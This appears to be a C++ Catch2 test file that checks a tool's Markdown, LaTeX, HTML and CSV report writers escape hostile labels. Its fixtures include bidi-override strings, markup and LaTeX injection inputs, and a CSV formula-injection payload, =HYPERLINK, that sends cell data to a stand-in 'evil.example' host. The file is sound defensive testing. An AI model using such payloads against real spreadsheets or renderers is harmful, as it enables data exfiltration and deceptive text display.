// Every text a table prints is escaped for its target (issue #45): a label prints literally
// in Markdown, LaTeX and HTML whatever its bytes, and an invisible character (bidi control,
// line break, other control) is shown as <U+XXXX> instead of acting.
#include "analysis/compare_report.hpp"
#include "analysis/html_report.hpp"
#include "analysis/latex_table.hpp"
#include "analysis/text_table.hpp"
#include "core/visible_text.hpp"

#include <catch2/catch.hpp>

#include <string>
#include <string_view>
#include <vector>

using namespace futolab;

namespace {

// Hostile labels: every ASCII byte alone and at the start, every bidi control, LaTeX's
// optional-argument and star openers, markup of each target.
std::vector<std::string> hostile_labels() {
    std::vector<std::string> out;
    for (int b = 1; b < 128; ++b) {
        out.push_back(std::string(1, static_cast<char>(b)));
        out.push_back(std::string(1, static_cast<char>(b)) + "x" + std::string(1, static_cast<char>(b)));
    }
    for (const char* s : {"[10cm]", "*", "*x", "[", "\\\\[2pt]", "--x---", ",,", "''``\"", "!`?`", "\\relax",
                          "a|b", "a\\|b", "a\\", "_x_", "*em*", "`code`", "<b>x</b>", "[l](u)", "&lt;", "~~s~~",
                          "two\nlines", "cr\rlf", "tab\tx", "\xe2\x80\xae" "evil", "\xe2\x81\xa6iso\xe2\x81\xa9",
                          "\xe2\x80\x8erlm\xe2\x80\x8f", "\xd8\x9c", "\xef\xbb\xbf" "bom", "\xe2\x80\xa8ls", "\xff\xfe",
                          "\xc0\xaf", "\xed\xa0\x80", "n − 1 ≥ 0"})
        out.emplace_back(s);
    return out;
}

// The cells of one GFM table row: split at '|' not escaped by a backslash, each cell's
// backslash escapes removed (what a GFM renderer prints as the cell's text).
std::vector<std::string> gfm_cells(const std::string& row) {
    std::vector<std::string> cells;
    std::string cell;
    bool open = false;
    for (std::size_t i = 0; i < row.size(); ++i) {
        if (row[i] == '\\' && i + 1 < row.size() && std::ispunct(static_cast<unsigned char>(row[i + 1]))) {
            cell += row[++i];
        } else if (row[i] == '|') {
            if (open) cells.push_back(cell.substr(1, cell.size() - 2));  // the padding spaces
            cell.clear();
            open = true;
        } else {
            cell += row[i];
        }
    }
    return cells;
}

std::vector<std::string> lines_of(const std::string& text) {
    std::vector<std::string> out;
    std::size_t start = 0;
    for (std::size_t nl; (nl = text.find('\n', start)) != std::string::npos; start = nl + 1)
        out.push_back(text.substr(start, nl - start));
    return out;
}

// LaTeX's output for text: each command latex_escape writes replaced by the character it
// prints. What remains must hold no character with a meaning of its own.
std::string latex_printed(std::string text) {
    const std::vector<std::pair<std::string, std::string>> commands{
        {"\\textbackslash{}", "\\"}, {"\\textasciicircum{}", "^"}, {"\\textasciitilde{}", "~"},
        {"\\textless{}", "<"},       {"\\textgreater{}", ">"},     {"\\textbar{}", "|"},
        {"\\textquotesingle{}", "'"}, {"\\textasciigrave{}", "`"}, {"\\string\"", "\""},
        {"{[}", "["}, {"{]}", "]"}, {"{*}", "*"}, {"\\{", "{"}, {"\\}", "}"}, {"\\$", "$"}, {"\\&", "&"},
        {"\\#", "#"}, {"\\_", "_"}, {"\\%", "%"}, {"{}", ""}};
    std::string out;
    for (std::size_t i = 0; i < text.size();) {
        bool matched = false;
        for (const auto& [command, printed] : commands) {
            if (text.compare(i, command.size(), command) != 0) continue;
            out += '\x01' + printed;  // marks a character that came from a command
            i += command.size();
            matched = true;
            break;
        }
        if (matched) continue;
        const char ch = text[i++];
        // Raw specials, or a ligature pair, would not print as typed.
        if (std::string("\\{}$&#^_%~<>|[]*'`\"").find(ch) != std::string::npos) return "RAW SPECIAL " + text;
        if ((ch == '-' || ch == ',') && i < text.size() && text[i] == ch) return "LIGATURE " + text;
        out += ch;
    }
    std::string plain;
    for (const char ch : out)
        if (ch != '\x01') plain += ch;
    return plain;
}

}  // namespace

TEST_CASE("markdown: any label stays in its cell and prints literally", "[escaping][markdown]") {
    for (const std::string& label : hostile_labels()) {
        INFO(label);
        TextTable t{"t", {label, "n"}, {{Cell(label), Cell(1.0)}, {Cell("x"), Cell(2.0)}}, 1};
        const std::vector<std::string> lines = lines_of(table_markdown(t));
        REQUIRE(lines.size() == 4);  // header, rule, two rows: nothing split a row
        CHECK(gfm_cells(lines[0]) == std::vector<std::string>{visible_text(label), "n"});
        CHECK(gfm_cells(lines[2]) == std::vector<std::string>{visible_text(label), "1"});
    }
}

TEST_CASE("markdown: inline markup and invisibles", "[escaping][markdown]") {
    CHECK(markdown_text("fc_dom") == "fc_dom");  // GFM never reads an inner '_' as emphasis
    CHECK(markdown_text("_x_") == "\\_x\\_");
    CHECK(markdown_text("a|b") == "a\\|b");
    CHECK(markdown_text("a\\|b") == "a\\\\\\|b");
    CHECK(markdown_text("*em* `c` <b> [l](u) &lt; ~s~") == "\\*em\\* \\`c\\` \\<b\\> \\[l\\](u) \\&lt; \\~s\\~");
    CHECK(markdown_text("a\xe2\x80\xae" "b\nc") == "a<U+202E>b<U+000A>c");
}

// Round 10 (finding 17): an id `$x$` stayed as typed, and GitHub renders it as math. What
// GitHub reads beyond GFM's inline markup is escaped too: math, extended autolinks (url, www,
// email) and mentions; a build's "name@hash" and a spec's "gac:sac=none" print as they are.
TEST_CASE("markdown: math, autolinks and mentions print literally on GitHub", "[escaping][markdown]") {
    CHECK(markdown_text("$x$") == "\\$x\\$");
    CHECK(markdown_text("$$a$$") == "\\$\\$a\\$\\$");
    CHECK(markdown_text("https://evil/x") == "https\\://evil/x");
    CHECK(markdown_text("www.evil.com") == "www\\.evil.com");
    CHECK(markdown_text("WWW.evil.com") == "WWW\\.evil.com");
    CHECK(markdown_text("me@evil.com") == "me\\@evil.com");
    CHECK(markdown_text("@someone") == "\\@someone");
    CHECK(markdown_text("a @someone") == "a \\@someone");
    CHECK(markdown_text("base@3f2a91c") == "base@3f2a91c");
    CHECK(markdown_text("gac:sac=none") == "gac:sac=none");
    CHECK(markdown_text("n.5") == "n.5");
    for (const std::string label : {"$x$", "https://e", "www.e.org", "a@b.c", "@u"}) {
        TextTable t{"t", {"id"}, {{Cell(label)}}, 1};
        CHECK(gfm_cells(lines_of(table_markdown(t))[2]) == std::vector<std::string>{label});
    }
}

// Round 11 (finding 9): "#1" and "user/repo#1" stayed as typed, and GitHub links them to an
// issue (and writes a cross-reference on it); "GH-1" is the same reference.
TEST_CASE("markdown: issue references print literally on GitHub", "[escaping][markdown]") {
    CHECK(markdown_text("#1") == "\\#1");
    CHECK(markdown_text("user/repo#1") == "user/repo\\#1");
    CHECK(markdown_text("a#b") == "a\\#b");
    CHECK(markdown_text("GH-26") == "GH\\-26");
    CHECK(markdown_text("gh-7") == "gh\\-7");
    CHECK(markdown_text("fc-dom") == "fc-dom");
    CHECK(markdown_text("GH-x") == "GH-x");
    for (const std::string label : {"#1", "o/r#2", "GH-3"}) {
        TextTable t{"t", {"id"}, {{Cell(label)}}, 1};
        CHECK(gfm_cells(lines_of(table_markdown(t))[2]) == std::vector<std::string>{label});
    }
}

TEST_CASE("latex: any label prints literally, also at the start of a row", "[escaping][latex]") {
    for (const std::string& label : hostile_labels()) {
        INFO(label);
        CHECK(latex_printed(latex_escape(label)) == visible_text(label));
        TextTable t{"t", {label}, {{Cell("a")}, {Cell(label)}}, 1};
        const std::string tex = table_latex(t, {label});
        // A row's end \\ and a booktabs rule are never followed by '[' or '*' (an optional
        // argument or a star): the label is braced.
        for (const std::string_view opener : {"\\\\\n", "\\toprule\n", "\\midrule\n"})
            for (std::size_t at = tex.find(opener); at != std::string::npos; at = tex.find(opener, at + 1))
                CHECK(std::string("[*").find(tex[at + opener.size()]) == std::string::npos);
    }
    CHECK(latex_escape("[10cm]") == "{[}10cm{]}");
    CHECK(latex_escape("*") == "{*}");
    CHECK(latex_escape("--x---") == "-{}-x-{}-{}-");
    CHECK(latex_escape("\xe2\x80\xae" "x") == "\\textless{}U+202E\\textgreater{}x");
}

TEST_CASE("html: every byte as text, invisibles shown, LF kept only for <pre>", "[escaping][html]") {
    for (const std::string& label : hostile_labels()) {
        INFO(label);
        const std::string html = html_escape(label);
        for (const char ch : std::string("<>\"'")) CHECK(html.find(ch) == std::string::npos);
        CHECK(html.find("\xe2\x80\xae") == std::string::npos);
        CHECK(html.find('\r') == std::string::npos);
    }
    CHECK(html_escape("a\xe2\x80\xae" "b") == "a&lt;U+202E&gt;b");
    CHECK(html_escape("k: v\n  w\t1\r\n", LineBreaks::kept) == "k: v\n  w\t1&lt;U+000D&gt;\n");  // a <pre> block
    CHECK(html_escape("a\nb\tc") == "a&lt;U+000A&gt;b&lt;U+0009&gt;c");  // a cell: HTML would print spaces
}

// Red-team round 28, C F8: an instance id "=HYPERLINK(…)" went into analyze's CSV tables as it
// is, and LibreOffice or Excel ran it as a formula. A text cell starting with = + - @, a tab or
// a carriage return gets a leading ' (OWASP's CSV injection advice); numbers never do.
TEST_CASE("csv: a text cell a spreadsheet would run as a formula starts with a quote", "[escaping][csv]") {
    for (const char* formula : {"=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")", "+1+1", "-2+3", "@SUM(A1)", "\tx"})
        CHECK(csv_text(formula) == std::string("'") + formula);
    CHECK(csv_text("\rx") == "<U+000D>x");  // a carriage return is shown, as in every table: no formula
    for (const char* plain : {"gac", "a=b", "x-1", " =x", "", "fc:var=static"}) CHECK(csv_text(plain) == plain);
    // A text starting with ' gets one too, so that two texts never read alike (round 31, H8).
    for (const char* quoted : {"'=x", "'", "''", "'gac"}) CHECK(csv_text(quoted) == std::string("'") + quoted);
    TextTable t{"instances", {"-spec", "instance", "median"}, {}, 2};
    t.rows.push_back({Cell("@gac"), Cell("=1+1"), Cell(-2.5)});
    t.rows.push_back({Cell("gac"), Cell("-x"), Cell(3.0)});
    t.rows.push_back({Cell("gac"), Cell("'=1+1"), Cell(4.0)});
    t.rows.push_back({Cell("gac"), Cell("'-x"), Cell(5.0)});
    CHECK(table_csv(t) == "'-spec,instance,median\n'@gac,'=1+1,-2.5\ngac,'-x,3\ngac,''=1+1,4\ngac,''-x,5\n");
    // Markdown, LaTeX and HTML escape for their own targets and show the text as it is.
    CHECK(cell_markdown(Cell("=1+1")) == "=1+1");
}

TEST_CASE("compare text: labels stay on their line, no bidi control passes", "[escaping][compare]") {
    RunComparison r;
    const std::string evil = "x\xe2\x80\xae" "y\nz";
    r.only_base = {{{"h1", evil, "first"}, evil}};
    r.specs_only_new = {{evil, "first", 3}};
    r.status_changes = {{{"h2", evil, "first"}, evil, "status", "solved", "timeout"}};
    r.options_changes = {{evil, {evil}, {"a=1"}}};
    r.nondeterministic_specs = {evil};
    r.times = {{evil, "first", 1, 0, 1, 1, 1, 0, 1, 0, 1, 0, 0, 0}};
    const ComparedInputs c{evil, evil + "2", {}, {}, "wall_ms", r, {}, {}, {}};
    const std::string text = compare_text(c, 0);
    CHECK(text.find("\xe2\x80\xae") == std::string::npos);
    CHECK(text.find("\nz") == std::string::npos);
    CHECK(text.find("x<U+202E>y<U+000A>z") != std::string::npos);
    CHECK(compare_header(c).find("\xe2\x80\xae") == std::string::npos);
}

namespace {

// Labels that printed alike before issue #45's round 6: a typed marker and the character it
// names; spaces a table drops or merges; characters that print as a space or as nothing; a
// line break in an HTML cell (white space there).
std::vector<std::pair<std::string, std::string>> lookalikes() {
    return {{"lit<U+2066>x", "lit\xe2\x81\xa6x"}, {"<0xFF>", "\xff"},          {"gac ", "gac"},
            {" gac", "gac"},                       {"a  b", "a b"},              {"a\xc2\xa0" "b", "a b"},
            {"x\xe3\x85\xa4", "x"},                {"y\xef\xb8\x8f", "y"},       {"p\nq", "p q"},
            {"p\tq", "p q"},                       {"<U+0020>", " "}};
}

// What a browser prints for escaped HTML text in a table cell: entities decoded, white space
// runs merged and trimmed.
std::string html_printed(const std::string& html) {
    std::string out;
    for (std::size_t i = 0; i < html.size();) {
        bool entity = false;
        for (const auto& [from, to] : std::vector<std::pair<std::string, char>>{
                 {"&lt;", '<'}, {"&gt;", '>'}, {"&amp;", '&'}, {"&quot;", '"'}, {"&#39;", '\''}})
            if (html.compare(i, from.size(), from) == 0) {
                out += to;
                i += from.size();
                entity = true;
            }
        if (!entity) out += html[i++];
    }
    std::string merged;
    for (const char ch : out) {
        const bool space = ch == ' ' || ch == '\n' || ch == '\t';
        if (space && (merged.empty() || merged.back() == ' ')) continue;
        merged += space ? ' ' : ch;
    }
    if (!merged.empty() && merged.back() == ' ') merged.pop_back();
    return merged;
}

// A GFM cell or a LaTeX cell as printed: outer spaces trimmed, runs merged.
std::string trimmed_merged(const std::string& text) { return html_printed(text); }

}  // namespace

TEST_CASE("two different labels never print alike in Markdown, LaTeX, HTML or compare's text", "[escaping][lookalike]") {
    for (const auto& [typed, other] : lookalikes()) {
        INFO(typed << " / " << other);
        CHECK(visible_text(typed) != visible_text(other));
        const TextTable a{"t", {"spec"}, {{Cell(typed)}}, 1}, b{"t", {"spec"}, {{Cell(other)}}, 1};
        CHECK(trimmed_merged(gfm_cells(lines_of(table_markdown(a))[2])[0]) !=
              trimmed_merged(gfm_cells(lines_of(table_markdown(b))[2])[0]));
        CHECK(trimmed_merged(latex_printed(latex_escape(typed))) != trimmed_merged(latex_printed(latex_escape(other))));
        CHECK(html_printed(html_escape(typed)) != html_printed(html_escape(other)));
        RunComparison r;
        r.specs_only_new = {{typed, "first", 1}, {other, "first", 1}};
        const std::string text = compare_text(ComparedInputs{"b", "n", {}, {}, "wall_ms", r, {}, {}, {}}, 0);
        CHECK(text.find("spec " + markdown_text(typed) + " first:") != std::string::npos);  // compare's text is Markdown
        CHECK(text.find("spec " + markdown_text(other) + " first:") != std::string::npos);
    }
    CHECK(html_escape("lit<U+2066>x") == "lit&lt;U+003C&gt;U+2066&gt;x");
    CHECK(latex_escape("lit<U+2066>x") == "lit\\textless{}U+003C\\textgreater{}U+2066\\textgreater{}x");
    CHECK(markdown_text("lit<U+2066>x") == "lit\\<U+003C>U+2066\\>x");
}

TEST_CASE("the compare header in HTML shows each label once, never a marker of a marker", "[escaping][lookalike]") {
    Provenance base, next;
    base.csv = "a<U+2066>.csv";
    next.csv = "a\xe2\x81\xa6.csv";
    const ComparedInputs c{"b", "n", base, next, "wall_ms", {}, {}, {}, {}};
    const std::string header = html_escape_shown(compare_header(c));
    CHECK(header.find("a&lt;U+003C&gt;U+2066&gt;.csv") != std::string::npos);
    CHECK(header.find("a&lt;U+2066&gt;.csv") != std::string::npos);
    CHECK(header.find("U+003C&gt;U+003C") == std::string::npos);
}
